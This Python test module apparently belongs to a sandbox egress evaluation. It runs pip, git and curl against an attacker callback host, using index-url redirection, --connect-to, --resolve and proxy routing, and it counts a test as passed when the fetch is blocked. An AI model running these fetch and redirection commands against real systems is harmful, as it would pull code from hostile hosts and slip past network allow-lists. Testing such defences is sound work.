"""Clients of package managers follow what an index says, to any host."""

import subprocess
from typing import Any

from space_evaluate.inside import Case
from space_evaluate.technique import Technique

TECHNIQUE = Technique(
    tries="Let pip, git and curl fetch from the index with links and redirects to the attacker's host.",
    claim="E3",
    defences=("verdicts: every layer, every reading",),
    stopped_by=("name_not_allowed", "path_not_allowed", "guest:"),
    variants={one: one for one in ("pip", "git", "curl, as the name", "curl, resolved", "curl, by a proxy")},
    seconds=60.0,
)


def attack(case: Case, what: Any) -> None:
    commands = {
        "pip": f"pip download --no-deps --retries 0 --timeout 5 --index-url https://{case.ground.callback}/simple/ x",
        "git": f"git clone -q https://{case.ground.callback}/{case.token}.git /tmp/{case.token}",
        "curl, as the name": f"curl -sS -m 8 --connect-to {case.ground.packages}:443:{case.ground.callback_at}:443 https://{case.ground.packages}/simple/{case.token}",
        "curl, resolved": f"curl -sS -m 8 --resolve {case.ground.hidden}:443:198.18.0.9 https://{case.ground.hidden}/{case.token}",
        "curl, by a proxy": f"curl -sS -m 8 -x http://{case.ground.callback_at}:8080 https://{case.ground.callback}/{case.token}",
    }
    done = subprocess.run(["sh", "-c", commands[what]], capture_output=True, text=True, check=False, timeout=50)
    case.did(f"{what}: status {done.returncode} {done.stderr[-150:]!r}")
    if not done.returncode:
        raise RuntimeError("it succeeded")
    case.refused(done.stderr[-80:] or "it failed")
